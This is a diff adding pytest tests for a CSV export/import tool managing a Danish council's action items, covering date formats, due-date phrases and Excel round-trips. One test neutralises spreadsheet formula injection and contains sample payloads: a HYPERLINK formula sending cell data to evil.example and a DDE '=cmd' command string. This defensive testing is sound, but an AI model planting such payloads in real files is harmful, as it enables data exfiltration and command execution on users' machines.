@@ -118,8 +118,10 @@ def test_edits_are_applied_through_the_services(database: str, tmp_path: Path) -
 @pytest.mark.parametrize(
     ("column", "value", "message"),
     [
-        ("due", "31/02/2024", "actions.csv: row 4, column due: '31/02/2024' is not a date (YYYY-MM-DD)"),
+        ("due", "31/02/2024", "actions.csv: row 4, column due: '31/02/2024' is not a date"),
+        ("due", "30/9", "actions.csv: row 4, column due: '30/9' is not a date"),
         ("id", "999", "actions.csv: row 4, column id: no action has ID 999"),
+        ("id", "²", "actions.csv: row 4, column id: '²' is not an action ID"),
         ("status", "finished", "actions.csv: row 4, column status: 'finished' is not a status"),
         ("notes", "", "actions.csv: row 4, column notes: notes can be added to at the end"),
     ],
@@ -180,3 +182,108 @@ def test_a_row_someone_changed_since_the_export_is_refused(
     del sheet[0]  # without the stale row, the rest applies
     write(tmp_path / "rest.csv", sheet)
     assert import_(database, tmp_path / "rest.csv").exit_code == 0
+
+
+def test_a_new_due_date_replaces_the_phrase_it_was_read_from(database: str, tmp_path: Path) -> None:
+    path = tmp_path / "actions.csv"
+    export(database, path)
+    records = {int(r["id"]): r for r in rows(path)}
+    assert (records[3]["due"], records[3]["due_text"]) == ("2022-08-22", "snarest")
+    records[3]["due"] = "2022-09-30"  # the phrase column left as exported
+    records[4].update(due="2022-10-31", due_text="ultimo oktober")  # both edited: both kept
+    records[5]["due_text"] = "på heldagsmødet i september"  # only the phrase edited: kept
+    write(path, list(records.values()))
+    result = import_(database, path)
+    assert result.exit_code == 0, result.output
+    assert "ID 3: due_text snarest -> (none)" in result.output
+    after = {a["id"]: a for a in snapshot(database)[0]}
+    assert (str(after[3]["due"]), after[3]["due_text"]) == ("2022-09-30", None)
+    assert (str(after[4]["due"]), after[4]["due_text"]) == ("2022-10-31", "ultimo oktober")
+    assert (str(after[5]["due"]), after[5]["due_text"]) == (
+        "2022-09-12",
+        "på heldagsmødet i september",
+    )
+    history = json.loads(
+        runner.invoke(app, ["history", "3", "--db", database, "-f", "json"]).stdout
+    )
+    assert {(e["field"], e["old"], e["new"]) for e in history} >= {
+        ("due", "2022-08-22", "2022-09-30"),
+        ("due_text", "snarest", None),
+    }
+    report = runner.invoke(app, ["report", "--for", "2022-08-29", "--db", database, "--lang", "da"])
+    assert "Send programmet ud til Byrådet" in report.output
+    assert "snarest" not in report.output
+
+
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("owner", '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'),
+        ("notes", "+SUM(A1:A9)"),
+        ("notes", "-5 % budget"),
+        ("condition", "@kommunen"),
+        ("notes", "'=already quoted"),  # an apostrophe of its own is kept too
+    ],
+)
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_restored(
+    database: str, engine: Engine, tmp_path: Path, column: str, value: str
+) -> None:
+    with Session(engine) as session:
+        action = session.get(Action, 9 if column == "condition" else 3)
+        assert action is not None
+        setattr(action, column, value)
+        action.title = "=cmd|' /C calc'!A0"
+        session.commit()
+    path = tmp_path / "actions.csv"
+    export(database, path)
+    cells = {int(r["id"]): r for r in rows(path)}[9 if column == "condition" else 3]
+    assert cells[column] == "'" + value  # read as text, never run
+    assert cells["title"] == "'=cmd|' /C calc'!A0"
+    before = snapshot(database)
+    result = import_(database, path)
+    assert result.exit_code == 0, result.output
+    assert "Changed 0 of 9 actions." in result.output
+    assert snapshot(database) == before
+    assert export(database, tmp_path / "again.csv") == path.read_bytes()
+
+
+def test_a_cell_excel_saved_without_the_apostrophe_is_read_as_typed(
+    database: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "actions.csv"
+    export(database, path)
+    records = {int(r["id"]): r for r in rows(path)}
+    records[3]["notes"] = "-5 % budget"  # typed as '-5 % budget; Excel saves it bare
+    records[4]["notes"] = "'+45 12 34 56 78"  # or keeps the apostrophe of the export
+    write(path, list(records.values()))
+    assert import_(database, path).exit_code == 0
+    after = {a["id"]: a for a in snapshot(database)[0]}
+    assert (after[3]["notes"], after[4]["notes"]) == ("-5 % budget", "+45 12 34 56 78")
+
+
+def test_a_file_saved_by_danish_excel_round_trips(database: str, tmp_path: Path) -> None:
+    """Excel's "CSV (semikolonsepareret)": cp1252 without BOM, semicolons, and every
+    date it recognised rewritten as dd-mm-yyyy."""
+    path = tmp_path / "actions.csv"
+    export(database, path)
+    records = {int(r["id"]): r for r in rows(path)}
+    for record in records.values():
+        for column in ("due", "meeting"):
+            if record[column]:
+                year, month, day = record[column].split("-")
+                record[column] = f"{day}-{month}-{year}"
+    records[5]["owner"] = "Økonomi og Løn"
+    records[3]["due"] = "30.09.2022"
+    records[4]["due"] = "31/10/2022"
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(records[3]), delimiter=";")
+    writer.writeheader()
+    writer.writerows(records.values())
+    path.write_bytes(buffer.getvalue().encode("cp1252"))
+    result = import_(database, path)
+    assert result.exit_code == 0, result.output
+    assert "Changed 3 of 9 actions." in result.output
+    after = {a["id"]: a for a in snapshot(database)[0]}
+    assert after[5]["owner"] == "Økonomi og Løn"
+    assert (str(after[3]["due"]), str(after[4]["due"])) == ("2022-09-30", "2022-10-31")
+    assert str(after[6]["due"]) == "None"
